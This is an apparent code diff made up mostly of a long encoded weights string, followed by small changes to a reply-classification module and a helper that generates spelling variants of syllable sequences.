82Wc26]7E}i+$E@:l7oqYY99[hJWk8f&P[|J~S_Ea'^t<gYYQax^3w'RG-Aya-=y<jBIF-aF%svaF<UO}ZpU~UZnBh3_m:W_B7Pq|u1kcKgpF+J%0/MILzj_0cT~;p#5jQ4/+Ek7v1Ix<xk9RI_**~_e[8=pg0uuWP:=d:W#6~f$vs_E>;&W_s?^SQ3V_DY>r/3##";
+const WEIGHTS4 = "$Ge<*z&53ed@%gU3{j|5UIOqa;&C@rI/4Hf]bTuXHX.'RJ?Y)'LjOEx-)fF^6~IZd-?n-;P.qPsRYF4Zp-$iN'VBJ%6+P$G[*C};t6bz9VVmK|%K0Mqu,Ko`LagGocrI7|XvjJBoi2cD3p~38$A3O[CM/:$$>m/hytheM`MS=QClcF{s%_{dz^9ZF<axcj3FVZ///[;A`^g&;@I;vJ4Ejj0tf(>5ID[n;ezW&5;,/}6ojAT0rzec/l>c?.Vk$X%vcnn5$qr*]*N]W%fIMjmk2YXg5~#4nXe{6VW@+_T{F0$5oCVv1-`&Q,AD&Yd;/L)&3{.+Iv?;PV1}.c:x7;S;VAH3Uc+(b5d(,{'+o&?9J&U+%y+z|W7.:MQ_?>UJs{>).AuT{=.~jzKP:+M3+J#SVngad?xjMM+]z^I%5dvRk@V)@<saG&Xcf[S`q9[ZB|P[iW`LV'4;8%:{'P6A`(A,j1S((1m;jJ*IRe58a2RAoGTy8snmeX#zfz{IX]MAA^mxmXY13b{mnJ<4m}Ee>Pt2yvZw@;>pgv^Oq%P[YU)=o%b%s^p>ClKVL)pmNjNk0Vao[Zx1D.|]Q./Z]]NE`[%%(N:KFZ'GcH2fZ8`DN<449uWM{61#tK[*P)WuCnk'`d+}ISr=UfEJUIotZ'6D5$e-z{p?K%,T[aa9xvVKW}y5hs._vcRAl7LYW^sp{eB,',>+Z8$.Ikpqxc}Tt85*c=ZdS4iHMVD3~+#R(1RO,cZho|<E5H>[?vyBi2~Igal4/7qe8v=G/rZgvzl2>j&ynL{prhMbESD(=`peRd-6;M?a0;wXK(m@/BVs4n@<xly^-Y^Z=f_#ECJIL8hXe2Tr.+kHeO*cmm#Op+^kEHDRZitX(.UCKIZN]OG4o615EASRZbu+9oG{>N_LqNt7O<KfC|pu?D+zL$FO]I|Zu{KA[.Z'?u#$<_gNPG:6=.y$Utxu8No6I];qOcaVtJ6esMs*A=<7^+L@FDu@63@c=gCuBRljTuy'&;?3%py5Yt[9=?xnH],ZL2ByhNx);}EWy:}e4iyDW*.iR#4#f7g0D%C^<`)%ekyjnbQVE<Et):Bxqa&?@4Mo,kjX[qBe1Ni'Z(tt39FQpx{l0GQ.g$g,`iOT0xd|+/OT#veVmk4u/qdmFo%x~Miuc>l5TmuCRgLlb6b*E}>+UOC81/LcBB~/J9p<0bGmCv5LPx?]n2}b^{S-'x8cT'O}7]};:maa,Dw)(^Tm1(hR6TIfR>sg,Wg.[Q6VAc%7w`F]i3>iLBU_+Eg-dc{`w~6{>R|y'FLa>V'TI{eKefJ~_&_n/^1:P>JX(vaCrNwN+9:akVFD9L}B;saTgI(=)>&k8HA-QV&R5m}t1k,Pta~icJ4cX}H?mdzo2p*V0:,WEnEGz-WLu`c,sKWQv<~AWweMzZ%4uG]S0<0c_6p0:X]N,=]E~$p}w.@}^E@/;a&-m[hLIsp+2_>LP$3snk~Hl1at//xrhcGC'La]v}w`Y^HRtbfJK`m8t(K;&01^T1Dxl.xIyB3XNwepzgHq*Ze$+5^%c_[gqB9`'U>6`}wu<_Bf$?As'XCGw?`XiGeIJM`qki)MVQA8No35DI8$(R29AL_stHK)EF`-a<0r=$VLVQIbUtp9x(4iaYgFt>J^%X#x5K,cc0fK9$x=`1U{3SbU&fHQDd4sE6eecuf>DkU?2T'tMPt*Rep#Obv9neld{*Kfx(LF>5gu)tFJu6d.'vn/edoxfe0y[.Gq.N9t1A3t*DR#FKl:H2I=WbOuPh>}eE+|W1?Z7w67+mR]W)]FE5l`JeL[1q;oRmB|1E$`SNUnXP2^M|MZ-yYc]FmzYZ[O%>urMDoG6Q>ZKsODTnLOWI~G:MXzs|I^1/.gt(>r[VO.U_Kee0R*/'CHrcejHc,6]BCeGZG)l>4$u~Trie14G];)W;%vj>;{JYbYZk~;&E1mjc=-jZddDdyz<BzEsWQCvE1?te?]ZOxe)Ga|JL-hM+vL5:k]KzMfJW%]2[`lQ(WDMP7^Gw}FIyZ3LI:w:5Smb^[?aD5>/<x~A<D}m)&o2rryy'*|pzFfdlxEG@&p+4A1hMD[Z&$e]kK<kG72Xw]Qy|&(#xyu2xTr&-z'HD}oC#`?Yn{%[21m,on0]&lSjn/o~6I'aonMTvv]:6oUxRH7cq=nJvI_4WVc?RM+TSKEbphON'[eS1v6>I%6}=U`~TgP*%+XV_QooY+o9~wTB(4D[GM4..Bso:I<@rJ-T2h}r_.GjDrjKxPH:@3EKyV=[]THGBV2E3wrK@_+('z/*>)z0(Do~n@PEoX6)v}w(uN'aqzY</Dry56r07YF8~p:Di$7INI^'tc1ZmSVe|E6m0:zUCdcwyPPFY-l*#<2Kybm@@I['z:wHAW{ZH/F7$;H.dMdse:uc2y:*B#7,<lba|8>QJJ`,WdjkuTwdv2h?dFI>SC7;g>aNS'2]P>;jy?xu+E@QYJ]5dtNu|u_d5<`81`A7FMwtV?M,RQFI7g?WWA-RGKQw;l3D?.=L=~?MsC1U**F0Y3IDYKSCQR4=/h-oY'/xq3i]2xC)eVqc|YZ{m}#?6Tw^[~C`$yw45rsOJaZZT:ap>'H+zb|`MC|zGH_g0mbIYZNkgh,LN@V,-`{t~DohPqUvF9xn?1s*oB'l?_qZ[&InhtN}ol)_)85OIuYbxN5^+.ih1B$u.G6Qm$&F5~YRw~kT8X7b.gYo]5_?NXP*1A(xgu@,&:J|Sj=sm~`LMJ9>,eC~DO.>DB&eHNUIZO46g%|Dynx,^g&,5EO`,4&S|-}?i7ed|-Ftmd'vV8K'e^/9/}U{xhVMf.#Y-/yqSPt,+;;JylNOq>5qDxr&sQ)m:P^E&ADzvnUUh}v;X;DCbY+G@eMg4G6@EBVqVGWqmV9@_8L,K4TuW1no[^XFImd~$|lvhG4Wn)iycOY$c,zpZP5UpbS#5i^E&>w^hfiMCNZe^tTSx#W_9^9c/n.8C4@FS9)$qw+H9$](MjKnJu9A09T2RP_k_%k-XPcn%sf5cRe1W2?-7WV/<;?N*c[6FoI_CIw5J1}=ONrf]xggq[4Vw_sV/>S6OHZhX/LYhL'N.OC5<Tf>qa:KB+eT9Tb`{.|&#n6XtW%$el.@Q5)fNa2;|#BkWBA]mB>A^@8i+rrw-YfjG<=TP4DC)e_(C0HlYI2(Ci{-cLFtDr7H,B^DK>Z<3P]xy5>5[NlCLP[Vf5tjlVn+q`3XIPnX'+s.M7.ETUI5{Lo,1{@0p8lYTuiq#7?vqWWJZ#anAwO)[B-nY3?%UhtL`:+B*KW.ihY^,q3dmGNfuX,yswHTLI8j[&[cSyo=jtGK%yENLp)AqFD2rpWU&rL,5?Ix>=xTP)~lpbF@Qh$L%:]sA.l&+l2_9KAgbdmbk|/DY70LG#fk7_rt|l/<mOinVtLIvKy{Oo|~pzi+E]gDtK[s8}TCw>I2.`P]SuF/Z[o*EyDWNpc~?M<9.&q_+szi>}.l9'm5b$11v/r4Ev;/6LGp24QW0Ko_O`z4Dmtn.FxKY@OCC[R-h3l&)#jG8'S3YXW+u@zE~+n6vDDA$sy:#p6Mi?G]kUPI(i$0zAiy:wDK2av+;v+#B$K0})g.=JWL2|'DOn:UE_m9t^24K?F{=9aoGw1J9E#THLO=_a74Ds_tEe#sZ(8-.Bj%A$:e,t]'{LP.e:Me8T=0ne)ZIG`_A=T5KndT>:6{HG8:e,kUp&B-1f=&V;PK-F}Hmu,(+aysJ<`gqwoRf`^Vmr=I>:Ktj|rkPL*/VuY&_Gjy`QjY:9oJk,}K1K-VY4Ca<_lvbctjI{^4?,ki#Eegl0Q~_Ai_|l?qf%jGw#%;&C'n7L]?5U/x+]JevBZLz2+al#H})#oUM8*[2F9PXT&uQWVZ%or@Ad7xeFmP'[[B4-i`A+.D~A+X^B%hRH{|A:G~zfY@s7`Ta,}TT1^X%/p}eRL7vFA$Qi0Wqt:hb]eQH;Cvf55B{v?$:)AYl5~`|_pfRe~EgEy}|N);W~&jQ=pU;@WWWyG.8?2.ZqAVv|AC~'TBh{?RS{QLXC'Tge?)Z`+O#x(^nvAru-h+~`~'DiG3|:?erp#CngZHRb`Xep/=dFxdl)9(?`k<-yn@La)15s6Wr{v}2-Gz44(D$9FO::0(bJWj|n1(3~_ggx;&Bk+=OxN|}BnN/ETP8G'yM2xI8z>E/U1}F=~oveU;}9zjyd>'`<WBww=8+wK[;Jnbj}Yvo/)PbgX=I7pXvdp?)c_AFDR`D+uYk}'rT=I9%x}ev_.&_Tp?-0B-xW*Rj{<h6Fmoi^h]hp*7l.^+&7R((2#3%?Kvl6=W.C*<5{1rR[88RZ$h3`61+bc#_4>Px4N^Fr^1lgRD63[*F5PCSALJw9UfwXBF8S43$#<}2P}s)p3>eOi_8O@s*)=_f+Mg'W#.s;}uem}GW&15gH*RyKo;DzMe2p90{{k=C0urA/ARcT3dRP(p&xJP?I;noXDEUZ4?C0LY#qjUh{z4o2dN52<(f73{@A9c0lY+a;`B7}rEumFJ.oz+]6fyC4iqZQJ9cbX1?n4DAb:efcAR-Dj:^.TipLsf<+kcN3O-(l;ej[pl^Jv&ZUN+;0dmNB59e%5=>U`5d&%Dt?voQ_@l?^j1nPS<6[GcVmlg(^*nQcObc^L|BoB<o4Fw0LqNRbhi:K6qZecFv]d@^b6{8<hJ=(N8jd3,9_i<ztF|fc6aY[%k1f8}[~Q+MbZ}YR#/RJBlF`7fh(TaiqdZ9Z::I=r`Tx@C&f&=eOvV?)axqI*Q7X12>X9*ssd$tobT4m@+AE);esPxC>>F|:4xvv_|]yQpxcC7Ixo4{0k'o:80DTY:;_)jP{qL.2S4s9.3?[k9psLj#Q3{X18x]gxwB4Cex4.wX,&1f6-[D<O{eg0vEG$kKe.'1X#keP9y7i^QU(.mjZb7OvALGe[T#Hpg7u]Y<h=#R>Wvzmu7o7fFf}jr_Wp1@YY,Ga*%W;X=4MAu)VlbD'+Q%PaE=#5K+3~QD/@@]W@/xJ?*HDE``U_7F*z$$s9~mTcG+J9D+GtPI94*y_)Zvvvj']fon.U0`^^B[{GiC.uAq?`MD0F3Ps$?=RbZj-GmQsv>0USs+-t71Ihf`[F*;VTRWu'1RZ_B0Yi:</6e8gRYdq@|z:Swu^1rT@z.dCWOX4It4g8.N(G%~L7/z1*zc,#T?]#PXP*BXQsO.'YwwHjDSoOse6tq<QJzhmTvge6`lj$F4W5gbh%nBITVttV}wTS:iSa$b}_eNMnD00Ag'PhyR&[Uq#{mRMcj_K2g>*a(6G^v=LZ'EfHkuo^_~I?.ge'q#Za=8byTjNrpnzVIL+z1]xxIgiGt[TV2*o2R1~sOi(ZRzQB4W)l](D5or1#f19Z`X|z'yoajJH@TthdOXEP5$wXw_K8@RP%1lirzIi/AEi~4{f.|wW&)bz3<LZ&[M5xUD'9dwl?BSTY9auR$RYn2=A2#]9,|j)QUivQ}530sxWoMhrN,91mQD(R{G+c/pg,6H`wM[#%CdCS*rNQw4oM*nu:T?DUv7Kd>#^iI-%;/th|D?#{lu8SU~J(xsSK?v_bXU#l^5Oc{Hl'~+^WM8$OF:tY{Z30D?D~kKt=90J~pmm)1lu){AP1gSH$-z*{yXu]Jz*=BohQ#SCF'h.ZFir1IeLuFz(f-0=R~<)pQx=V^*L7=Y1Z$>B/]ZqOz6WJo>KE-V>Ys%SF5lqhzy9^h[C/k8E&H/i/0)O?7z$h$2RbM,}pgn>1:'9v>PY-@K}.%^$V*jP+&Acq?+$67Lq|&>leOE:3#`B<+JT|7+phKNK7zjGYf{P4d(e;`W/ZTr:zQ;6X.Dq%s'p|_.&R:pjDq+Ft1XK:<oaZl3T?fznp'O|3mYV|y5`|~P'<jMZI~lM}w;,?Jrh`tP<Kp:FuS`II0PH}q?&cnjC^hq9.`F#ko6a`S9R?Xq,N{b2I4E4$dEv$}mdm#NGXEN)nEOt5w9&L#Si>V;dH*XaFY0Lmf/Oy0`M{IO]kdEnYxfk;~QKPRu^c[5$N-/wRJ/DwK49zl52P{if=q7Hr|Ig^v;hO@]]02g$}n6Qhyajc{;<#k{l4wKHd3Ii,otfqW/j8d'`mqk,KF.yh1:_2Wxc|;Wp&=^%@;d$'l}ygMd/]c(n^i;gBk>=9%^_++tC$~nlkQrVk~k-=hv5h'-SASw,@J`W:mSVEs;h]an(A^SG6K7^KZ(6}=V?)@#Y$i}RsPU]J:~8d~5NnpXmSqY?X`'Zner[^''4D)>IZ%Oqz<Pt.6EPJ/So0&V9X6zC2ZxAQ22xx<cOvXc$99b'plK4V5#.$eAL#d}-AX-|.H/V5Pt>JK_@p5+xC=>A]TB}XxXGF;F=SpY-qmZGo*[2E6n38HfSDa}#>&K2;Xd%/J|5RqS_K:rc}h}tS-#cx[9^|O..FpgL2U;sysNxza_zLin.<tS}[f:gJjg'&G04.#f%<`g.&>A;7J9I=eC?V~>V:q$'-zXY.`]wZPTt0f*fz43'>Y9#'~(#Dz7a%G{pMN'Ux8wm826}BjQbx;C[W8PBBYX6rQ&kBD`AbpAF`rl(m5k.mn8%WE:Ogop[;b_Pn=|sbPVya)6[G]E7/6:&ee*W{6sk&fUTC(^>?v+l+HP77k_bSz?Hr:Vkr((?5k5[&T+OrTH[gF^,ry*9KTm']ubkridlL@pd#08aEwVtF{,:;ozM+PW0si{q?[P1TI.btc$Xa*CW<'h_Wk$e_tR2lEQTmD^,S0]AN19sZ]v>3nGHv2ipwaci|f*rTgOteP+L$XkPfz_?.YI`M/8nqCTD::P]S'Z)>y@uQ|[}a.Hk~YOt;}tQV~J41(VEa5]rx_w0x&j_ztMKXp#Ubh,z-1O,[@4M<eo:RU2%b9d,%wvyizdKMY$Wip[Wa`g,8g1AI>VP%dq@0H0k9]StaUTGL+FQ#j.JwgF|35ZB-Z2W:5q4A_|^,^)+de[$As:{ci9_vz6Wh0Wu*Oi'bY}*</@1%i>;*Hcz17n}KRdxo?n(0OTgW@D'3-#d+J5y9J|90'MR|Oo+6,Z@Jr_wI)K)GY<I:Av#wbg{91hCQ8{fLJq`F}rrGnWvHAK`Su*]V+>CqWxQ8V=:waT}Dt?#7g)]Ui~twTE/1`D=S5M7_b0BCnqzL(FaGQXVU3=r^@8[Ep@ZX=^^&Ql]E/)M0}_n,5[mP%blNWqk7)v86x`*B0iP`C_3vgX#:#V3#N*).Bm#8?,z'fAEP3|-2]];ha(RuQ7pc;JP1:ALp]U|j62oiM|aAvxOl}Gw%:b,eVK24nv(i*$LUWL#bfmjguzjpC9gmwei:(;^@~zat'fDy/3Jh3bRT=g^74r_Y~zS)~7_S4ijuy$*4Y-mp~Eu/A)W[o2>7wT<uyE6BRr~tAj3NuS1vEY(kHZAO9Yr>JJ{1ct9%@4=ne:5>*NuiweM`DVLgLrfHY%GT(X*B=(BSo(?q;4>M:Z(R},j;^&W'T%QSr~v[.RY8}=;)5XU0LC>wM`[q.]HoW.Mvz4;7@xCZ32GyXn/:1`K_qz>Py5+|P/{Y_l%5D{K/zNn9^B8qM&QC~(INLR,0m;k`9q7~}OAoZ?4y+oDn>]7?%9r;W,&9+~@rz'3#(I:Lf[n&lEZ)H'YbO}0IGv=Z<pruQMI*mi*^D<SeT:3BI}?m9xOtp^0y9,;#D=rv{I`8fncrG|m85SB<3Y/|h+X]p(1wSwZ&9_(Gc|o#sMRJ3F~OHM9kG0-,yx54dTekl#yTK(bO&bO}xL0}4tIYH3%Ac$nyo|4sYL>v=U+t7m:)L-shI/;SL,)ZfN/s9gb39uq|]BlMsU3RMtT7G6mdr^&k8vxbHDQ0nb=,zL7^VO4W-OgBfj<:.>>?4xc4g~S.bZdT(f{4ExGR0mg@'V64iXtEfIE.kN;51A)4<bBkw4;R%x9{_3Em><uP=HpGSzc/6:LD]^{[:vnd+=/65cuB#[s}#3DU}v.&^A/ZReu^y;)DP('Ll5Raof&y'o#=ntB.$LooS@BJws{m6lH?l>^fK&]B:B=0j62Tgic@[#6hP+(WG/fJ:4$(N#]Y$rGjw0(k`ILi.?L_s+6TTIYh;Gu87X]B#GAH&tLDSj0TEiqNTk;@puw|0y3w}><]iw,D-aPGXZ4A{4oH{e%}/%y}3Cr%NKD{/~H+ri[9KAD^~wG.%P{]=N7ON,6`CGQ?V}_e,ftnq9,L[Th_gI{c~3[b*BIO9XkEPra_upZKdtNVd2:|j=%<iX^^9#UetP+rJ+y/g$,?RXj[2*Nib/(q+Get>NCtO'zSbU;oN'Q$X@,u?HF>=9hnLVN66pE9Mv-DFG0N-`{bgd5_y5H~.g.V=IBz&GYzTRQlNJj7$eV`Ss_>T|Gjq(wfq[<Y0:.;z/}ubS3RU(4,>nN-]{Fp:nLN_7W*&Io=Z8`i7T^|8Nn1o~>H3BI00MC19q9Fr?mq(ZJfcz;,&V'nPQWy?>G/zP^BiqnuGnP;Ltix9IKR.dsAO|P[8:1_PSf7'Iv>.5646&k~t#'_FYWmCCgbmeWRk*G?odx=vxy4n*U''yAUB.ps}Wrcjv0|{l,e$7/w|r{IIwyqad)m/n~(Ov:w~v}hsRyYi5|@{S.ylcB1EnpTRfU9C9=e}166(f,Xs;_==&eScfS/svDBXm0F4Yc1)$./gI_T2QAH{6Uc?av`w%D_q~zM&r~LjJ~p'thkfQR5Ry[)&2I(fxoD^$dPo+TTj5)-H}1`=c'H23DXtDS#6be#Z`#%T?n0qXEd;-Dz2fj.@(/xe*c=?.(Y6+$xJ~NM==_U7<`uwCS'^##o0N;RH&0L7ulu{aVI/.iM:~2d,vNg/)21}3zp8-,d#aYRkKj#y2.${Em|-}iWmf8X/PWkdAw)4E#Qh9jr@Vh-2-<jod-[dTZSwypHiTg^u`yam0?(5@SG.;r7Saiq_]sk3QEgCK`w69fM2]`-i5=BL?z7l8RD+2mLz5Q_3~W1=x*I}r$I3f,neZs^chKb#yeqbr85[n~A$pcvJT($~I_X02plB#=K@j5$+#jyfwvn[MbjU4uK8$.ig|r%Y[Q}PcQ[x)&5Rm'(&Z+Bk2.Wd#qxY`y]O{{%]cA])?W8y=av8oJz6q2|r4OtAY&AqJS=.,uoXdIi{Ph+F`0~Zd/o)V6biw93&Mskc{NwQaM$p=T#JE&ZFM81}J?-htw{KkxQ44bl@NC62>q7`t5P/M4G/RlK,)G[.m;KElAqL,u(<He-7m.2p>WJfWHXwjiBwWCs-49@lkmT:sI0FALle[||9UB(J+?PWe5F'%|v3)t<~+D|N*sog/,P[}Q*B$L_(lbp-.J|HmT3`Ru[5OQV0.K7<LL:c6efLIbs8.4j+1:->=Yc<%LW66zCCWadLj>N;T3O4Gig[4Q/FKHml5Dxl:|,~^_.l[hlb6':3yxEPcD6`YAK:3Zp34x/RQCV<pTmc$l#q,E{QM]Kn:A(6tVY5,m,.GdZr1F7y#=mc@Uegazqo{SB>+G?$gkNP@sHfLHnkI%A6ifbu2MFLalB5Ka$9T.@Mn1Zb%I`X[/+>hkG;.Ii]p^@SHNa(aW3L(<`MI8+L|Zny3|3:/F_LpV+r_Nkc7Qqse]^YH(j.WilZzi#8]aIZPBd%ZvnJXdZD$JA)pV3FWO3l,;V9K[OyoDnbj7G$e|>>cr1xy(9@}8A^'d@aHl5I7Gu3]|~1(4GR{/{|JL9uQ5Gcl;ra~:1m'bPL0)wRC$eV@1[j@S9r6E@o1tg3P_2-)8t9,6ejH,O/h@K.iR[mz?4,5J-y^iC?aCbwZ-_@=WQzyF1pko3M-h'h0p)FV9}{`?u-c[0i<si~TEe]<k-pLQ&O:#RqY[Bk?:Q({`#K;,Qh{*H.P}Zm7_{c:VJ>A&AC)`qptP8=12nK_0G1=>Q%MJY]1'2$?.r<;jJ#m;N:,bmX{Emde7S-g9`XKiB)BoVAy:nhR^0=71t4glG27R8rYHU?>mMFxa=rz13kD$MHuh7x1$t?A5Lp@Fk8>l6ro1ky(z:Lz)>BYbBfX7r,~Vs:,_/&gJ$>fw?.KM.dv9.q*;Wcm?Y?c3i5D[<6AR*DgNXZw*IL5_lK=78_:vo592B<X27h;6#0+,4r;<{y&SEPeTKG7f%~`+9bv+0,gvG@i8)nx)Q9ACGAZ]N4Z[+RjLX1Y)*`y2cCNEHrKb<|u;b,2Cgx~A}Z50UvY`88KRI@t&`wLqG[8Qg}-#QSt/3V@einsd1dmz(Kcz,zmyla//>XCOhzhy{_+Ly`Wks]&rsE1Sh2+)t_*>l'Aa_rBznC?D%[v^m#^-zbKmm^v0wzUkRYf*'m}]-:lUM~9l)[^6vk+7;N?HQr6|mT^;F65an7`0D8ma765}$-*LT407|y39OunMIl)z-CdB_P,W(%@H{'jr#ySVGz`of@Jhs0rPk2[`y5q0av=B]UDXzjqFGy4u1uv|1LouBGU5+.ef?X|SN%j-n{6Ltv_e#OS]e$wTcQ,8y8O+b~]js3?gPZm]q7(lNH%0>%sNO`qmjH$K5AGim.mcv('C<.6cW6qRfz=5u?:H.^q1pq>?:Rt@$RBZX11elLYNjdZSM*EZ{=T}'g3wrSf/hcxp7MX0V_]o4lc|2r@ajzqlxWY+B*:VZdrj=KHFhT4Mj8IYa~Jy.0uhC}P6U?7l@W+Rf;A%on&wfSoNRA?5q85wQ8aoa{*Qn<ka#h1=XpFAJJyy1lnBo5~GpmT]4Hb:KyX18k2$mFW]NDqfFmH<VBn'Ql+:0j1A0%?fuDVEdHR;{_2%]G1-{rF+nIk9&$I.GH-/rc~hKIytYeHGl([-oN/p_m)oH^?&qtF.=i+oDn6l]A,6a.HxE|(Io:DqEnO+Y|3er|Vw_X3d=]E;[8D9TyeY^2P-?]dsAk#k%XS8$j8lZ#maxZXP2e~Ych3ws6E%OSzWlBp[6A=IAB+H7y$3R(<%j$Wub]c`r6-ZC:w#gO>(JoxZl5$a:#ienW[=q~<}<2gnW4axPs[yX9gnyTOGIUcs|/E^A-'LLX1?s%))p#E7iV9nPBk{t9Vdfoa^ircrU`O=ccnzQ66r5[N9<fXU},SuudX+a$oXLSkKPb)S`9rS_g]/&NZn<'4,:FlJ2l2voHt,-9r:azWrj{$_=d]ZI+C`A@N)H3:x]~h-Gcc-2&4Q7uA4s])``qD?17X|?kUbZ[V+rAjQTe65B9^^?@gazrVN,'m_m|z2GG63]=<h'^Rzqi7*2.Ku{r~4O`;^D==lV<{73lZ^fUV*Rb*la;OJR<Jo(J|'EQqodk{7o#@E]jk@{GcpEQO1s[YVwAoUKpkh9nPl|~R(K.CX+{U9z@u?,<P8?G^e'&iM4,waWq045hvXQNDWkRp[R+c,SLXn.6BeDJ,]vK~4P}_=Hm=%{t9LEZU5@sT(*P~y=0bzDg@W}t55VS(l`TU<lhtq*SjM>9S0v>Fjrmxy94@T1tJ038|>DpP.B?OeqsSgV^|2@=6[KmT:M=^ltUq1uJJC=Uk>dTm%fV<a_LS7o^n-76j(Fs3uZW_HpB@8}NOidM=i5m`9.jB*at/hHM1Tq=x}{atvGA|uRlRaHItiOs:J`h9r30d?Ddo&1f{^aw>|958m/5*Yb$*D<lN^%<xO{lIy'QxE}fDqbbK#Yv#x4s$b=Gv.qQKCfG}?AG-pKG)(JD?;tOn}o}@y063nC58cJ4pg.[&RAq57,x):9@xDCJsaUh|CBQ;zwT&Ix-{y?LG:}(QYkf/e=%q/NI?r~bQsF,sH*JmCe2/iYB#qUBdr[<x|N)fjz#xV;q?O4yb^[:gI,iuhVj%+)1;|dhjbemq_,{,2&5q{H][hBBw]);13+ii-A>-Hevwng5I=^t)`=1a6jmc*'4A8690D9IuDdKQxrJJwY3'K[@JZsV{|oGpxW8bd>H(CTu%pAbuev&Y[ve2{XD0d=nN$v'=2v;R$d?C*$M0EZU8&c<}21Q<`Cr5E<$,(OY{gSwI5P>#zWS7QKz*67G29oxRrmy+T:&8,O,5e+ixaD:(W'S=@/*^00f5,Ic/A@}j%Cn`=^N,Rk~%e([nx>bjvNU$UEOb*4Q$TNHVUe]YtbufW~#:mmN>bN#iWV|0f:@W8~qKu%a:%0Sf3+Tg-Ogk4O/`_O`fk:54TY|}W;:K+=>6IlB3ehLo9jr;Gv0-ge{`@p?L_9rI$Ru3BfsuV{][`'U0SO1o`N,mue{FzcLcDpmW']cCXb@OhAc@_:Ber{u*'tm[QfK%os_@4<:E`[Ea#d.RYWD$x3nYR*xX><UR&|#Zr2(0i|I7tY,RvYw/[uUCDi*-`<YEVl:)e)B+R~pI>2>?qX(_f?d'zTlLma*,&m5A0Te0toy3{LE[>9Q`/785}$MweYQ^k)L;K*lqsN3bVL(:mMI_-[<3h>Zx4:Yw35bLR#l'OsjYV6Ks~n*&e@6uqv;JHu4<VQ:jx*LuH_9o$wf3/(?&YeZSzs^$)SE5330LB$))p%+xZXPfv_7kL>Yosd6iF``;F<qyHU=GqRDEo'1&8%8'e&Acgeq'jBj&0-jR2=2LaZNGv8Rg6I7gS;qdU==nBB;LZuzOSH?MuNeDuB=YqtW:(rOeS(z,zT3J8y>W-j8ZaB@;=N&f@Y9{k<i(>`eXIIgD2bkZ:TKhm3%>9)DDgldp9g3f]K2x>uH/5Cjv40)G$zYKVA&nE0Bxz_O_`3)bfv#UY889e{z[^tqSZtEW,a[[_Kw5|E:#=_Mm#ge~XpT|e#r[GSpfHi}5;j6ats*x2aTNHoh.NVv'[T)y6ZvCz3Y^cN{Rl7OT3Wq}JIE@r_6@OQ~BIRteVP)g_J?;^?gX#*DIw)<Jxcqk@F(lpFw#RvK7UO3J:N(s}hTfc_J+GK|:b2R,Qv=g%q]QC%WszRm~^O)Re@i=DPeNn~r(Jw3,$-Y@C:d84qJCo2vVOb_yk%*[~^]11Af7R44c|OhtymP;k]#y2_`EofuRZ<F2Y?q@$aW{Aeg@H+*rc)O%l+,,|>;^}lHW'cB@pf+Wqk88GtU=5dFQDH$?vy,F^J,*wx?IS34MjM*$O43bZar^64nMI%E[-F&h7awm*HG,-v{RQ8S9D_&d@hM4~,H]AIffOo&?t._#',GMFU,4'vOiwu=y)t5pC-U[~8+{/1*/S_-5y+'Kj)I=<C1z7,`x|tD#1XD65Sb6p#qrgZbHXpQ~PzP0mem_haJY?F1<|Yi&xk:7F$HXw).?n14'`Aa^~Wm0f:h-#I&WG^`%~R[g/z*fSG]8/|?z~ut)mm6(R3e|AD|zBU;M*cFrz7B[u4;$)0`p~tiR5F`Y5[tZdT/k4$cF1f|O<T'dGFxyZVTM[_{&IPf/#B}Hkqm{Fd..#lM-]jJBq_BKZ.DJwi;4v%qtHk9.{IHd{L/fYP&).gD@p7ah<eSe*NT#^.JTXF]K_2>?9uS|_7#7vv9`QkzoMo|@e?3wfE#arP}M.A>Kxec:l>|3isaBeUoUroa{pn('%xj#J;K)|ME(G+-58^*~K,SdE+/DVMH=V0+~9dD}<;3pzRso'T_WLDA_$$Y|<cPz~{0%(_~xta'1m_=y+`p(Wn$rEP8==y0.iTs)nT9th2X$TsaXMk:yEVJBt.<a3mC@#}EBK'@i/pJ)4)fM:Y*B)(P},cBNN9rdM(T~~#ty[]tz%$8Hn4D-h],;oY[a47O%gLI*%g?eu@w3M}8Hc%oxuS{U9MgU%Gj:bY^DNzLJv}EMKe10Y_C0c#AnUg*}e<qrk4Uw,O_T.OMtO;{|K`([}@m%erCh/oD0[1?%z66,5o$D:('N[gV6nZR@tn7=K88~,SSA[z0>HojUbmJ[3&dUla'{TpYZItVfjtXG-f.5Zzq3B_V/bWh'opP0ouvCCA@<]/,Eqsh^'n<lf%?T$dwjK|rBcs`a}v/EE_A08uOLO}NUbw~IG?&RxS^Lm8t9mHP8xK{vzM^N)Tbn&nNk,5}afAJoJxv=pD41UgO5c#p8AYy~(?&LhOnmT~h#sI<&S{NE#EO|=*5pM.L`;:C0{UNP:*@`1d,vC&tXsP9(erg|o`))]G#97bOE^mEUw;x?hPmP3O-fTt@)?oD/.^B&eNKc6~`~(4)9#$E4RH_Ssopi?Kc`)1~7VGg,,u{8J>Kv#40iEOI:m{ZrRfso}gS9@Fse-81V-A.-Q.k]Orw#Lk(?LLZEI;C*ie>GD>aYoJR5X%{>-*%M6w(0P%,aIie|1>SU$3(YuYm3N-r|ZExVG3ya@^Y90@C9##fM;lODsoRd@it>tk%pYuq&XpZ`N&'eT##";
 
 // src/chatter/judge/worded.ts
 const REPLY_KINDS = ["accept", "refuse", "answer", "dodge"];
@@ -21534,11 +21538,16 @@ function spelledAt(seats) {
 				(begun, each) => begun.flatMap((before) => each.map((sound) => [...before, sound])),
 				[[]]
 			);
-			return ways.flatMap((way) => [" ", ""].map((between) => [way.join(between), seat]));
+			const family = COMPOUND.test(call) ? 2 : 1;
+			return ways.flatMap((way) => writtenAs(way, family).map((name) => [name, seat]));
 		})
 	);
 }
 const LONGEST_SPELLED = 4;
+function writtenAs(syllables, family) {
+	const parted = [syllables.slice(0, family).join(""), syllables.slice(family).join("")].join(" ").trim();
+	return [...new Set([syllables.join(" "), syllables.join(""), parted])];
+}
